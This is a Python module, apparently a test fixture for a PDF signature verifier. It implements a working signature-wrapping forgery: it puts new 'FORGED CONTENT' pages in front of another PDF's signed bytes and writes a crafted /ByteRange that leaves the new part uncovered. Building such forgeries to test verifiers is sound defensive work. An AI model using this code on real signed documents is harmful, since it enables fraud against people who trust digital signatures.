"""A forgery that reuses another PDF's signed bytes (found in review): new content up front, the
original signed bytes appended, and a /ByteRange that leaves out the new part instead of only the
signature value. qpdf and pdftotext are happy with it; a verifier must not be."""

from __future__ import annotations

import re


def forge(orig: bytes) -> bytes:
    br = re.search(rb"/ByteRange\s*\[\s*(\d+)\s+(\d+)\s+(\d+)\s+(\d+)\s*\]", orig)
    _, a, b, c = (int(x) for x in br.groups())
    signed = orig[:a] + orig[b : b + c]
    hole = orig[a:b]  # <hex>
    n = int(re.findall(rb"startxref\s+(\d+)", signed)[-1])
    content = b"BT /F1 24 Tf 72 700 Td (FORGED CONTENT) Tj ET"
    objs = [
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [4 0 R] /SigFlags 3 >> >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 5 0 R /Annots [4 0 R]"
        b" /Resources << /Font << /F1 7 0 R >> >> >>",
        b"<< /Type /Annot /Subtype /Widget /FT /Sig /T (S) /Rect [0 0 0 0] /P 3 0 R /V 6 0 R >>",
        b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream",
        None,  # the signature dictionary, written once B is known
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]

    def build(B: int) -> tuple[bytes, int]:
        out = bytearray(b"%PDF-1.7\n")
        offsets = []
        for i, o in enumerate(objs, start=1):
            if o is None:
                o = (
                    b"<< /Type /Sig /Filter /Adobe.PPKLite /SubFilter /adbe.pkcs7.detached"
                    b" /ByteRange [0 0 %010d %010d] /Contents "
                    % (B, len(signed))
                    + hole
                    + b" >>"
                )
            offsets.append(len(out))
            out += b"%d 0 obj\n" % i + o + b"\nendobj\n"
        if len(out) > n:
            raise ValueError("prefix too long")
        out += b" " * (n - len(out))
        out += b"xref\n0 8\n0000000000 65535 f \n" + b"".join(b"%010d 00000 n \n" % off for off in offsets)
        out += b"trailer\n<< /Size 8 /Root 1 0 R >>\n"
        return bytes(out), len(out)

    prefix, length = build(0)
    prefix, _ = build(length)
    return prefix + signed
